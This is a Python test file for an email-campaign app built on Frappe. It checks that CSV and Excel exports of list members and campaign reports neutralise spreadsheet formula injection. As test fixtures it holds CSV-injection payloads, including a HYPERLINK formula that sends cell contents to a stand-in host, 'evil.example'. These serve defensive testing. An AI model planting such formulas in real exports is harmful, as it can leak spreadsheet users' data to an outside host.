"""What leaves as a file, as CSV and as Excel, has no formulas, whoever wrote the texts in it."""

import csv
import io
import json

import frappe
from frappe.handler import execute_cmd
from frappe.utils import set_request
from openpyxl import load_workbook

from email_campaigns.api.desk.exports import plain_csv
from email_campaigns.results.breakdown_store import has_links
from email_campaigns.tests.site.kits.builders import a_campaign, a_list, a_mailing, address
from email_campaigns.tests.site.kits.results_kit import ResultsTest, clicked_link, happens

FORMULA = '=HYPERLINK("https://evil.example?"&A1;"Click")'
EVIL = "=1+1@evil.example"
FORMULAS = tuple("=+-@\t\r")
REPORTS = ("Campaign Results", "Link Clicks", "Unsubscribes", "Bounces")


def cells(content, kind, **options):
	"""Return all texts of a file."""
	if kind == "Excel":
		rows = [[cell.value for cell in row] for sheet in load_workbook(io.BytesIO(content)) for row in sheet]
	else:
		rows = csv.reader(io.StringIO(content.decode(), newline=""), **options)
	return [cell for row in rows for cell in row if isinstance(cell, str)]


def export(cmd, **form):
	"""Return the file that a request for an export gets."""
	set_request(method="POST", path=f"/api/method/{cmd}")
	frappe.local.form_dict = frappe._dict(cmd=cmd, **form)
	frappe.response.pop("filecontent", None)
	execute_cmd(cmd)
	return frappe.response["filecontent"]


class TestExports(ResultsTest):
	def setUp(self):
		super().setUp()
		self.addCleanup(setattr, frappe.local, "request", None)

	def members(self, kind, **form):
		values = {"first_name": FORMULA, "last_name": "@SUM(A1)"}
		frappe.db.set_value("Target List Member", {"target_list": a_list(address("jo"))}, values)
		fields = ["name", "email", "first_name", "last_name", "creation"]
		form = {"fields": json.dumps([f"`tabTarget List Member`.`{name}`" for name in fields]), **form}
		return export(
			"frappe.desk.reportview.export_query",
			doctype="Target List Member",
			file_format_type=kind,
			filters="[]",
			title="Members",
			**form,
		)

	def test_a_list_of_members(self):
		for kind in ("CSV", "Excel"):
			texts = cells(self.members(kind), kind)
			self.assertEqual([text for text in texts if text.startswith(FORMULAS)], [], kind)
			self.assertIn(f"'{FORMULA}", texts)
			self.assertIn(address("jo"), texts)

	def test_numbers_stay_numbers_and_the_csv_is_as_it_was_asked_for(self):
		line = self.members("CSV", csv_delimiter=";", csv_quoting="2").decode().splitlines()[1]
		self.assertRegex(line, r'^1;\d+;"')
		texts = cells(self.members("CSV", csv_delimiter="\t", csv_quoting="0"), "CSV", delimiter="\t")
		self.assertIn("'@SUM(A1)", texts)
		self.assertEqual(plain_csv(b'"-5",-5,-5.5,"-x"\r\n', ",", 2), b'"-5",-5,-5.5,"\'-x"\r\n')

	def test_an_export_of_another_app_stays(self):
		frappe.db.set_value("User", "Guest", "bio", FORMULA)
		content = export(
			"frappe.desk.reportview.export_query",
			doctype="User",
			file_format_type="CSV",
			filters=json.dumps([["User", "name", "=", "Guest"]]),
			fields=json.dumps(["`tabUser`.`bio`"]),
		)
		self.assertIn(FORMULA, cells(content, "CSV"))

	def test_who_may_not_export_gets_no_file(self):
		frappe.set_user("Guest")
		self.assertRaises(frappe.PermissionError, self.members, "CSV")

	def test_without_a_list_there_is_a_sentence(self):
		for doctype in (None, "", {"name": "x"}, "No Such List"):
			with self.assertRaisesRegex(frappe.ValidationError, "which list"):
				export("frappe.desk.reportview.export_query", doctype=doctype)

	def test_every_report(self):
		mailing = self.send(
			a_mailing(a_list(address("jo")), campaign=a_campaign(campaign_name="=Spring"), title=FORMULA)
		)
		mail = self.mails(mailing)[address("jo")]
		for kind in ("opened", "clicked", "unsubscribed", "bounced"):
			happens(mail, kind)
		if has_links():
			clicked_link(mailing, "=L1")
		values = {"email": EVIL, "details": FORMULA, "recipient_doctype": "Contact", "recipient_name": "=Jo"}
		for row in frappe.get_all("Campaign Log", {"source": mailing}, pluck="name"):
			frappe.db.set_value("Campaign Log", row, values)
		known = frappe.get_all(
			"Report", {"module": "Email Campaigns", "report_type": "Script Report"}, pluck="name"
		)
		self.assertEqual(sorted(known), sorted(REPORTS))
		for name in REPORTS:
			for kind in ("CSV", "Excel"):
				texts = cells(self.report(name, kind), kind)
				self.assertEqual([text for text in texts if text.startswith(FORMULAS)], [], (name, kind))
				self.assertTrue(any(text.startswith("'") for text in texts), (name, kind))

	def report(self, name, kind):
		return export(
			"frappe.desk.query_report.export_query",
			report_name=name,
			file_format_type=kind,
			filters="{}",
			visible_idx="[0]",
		)
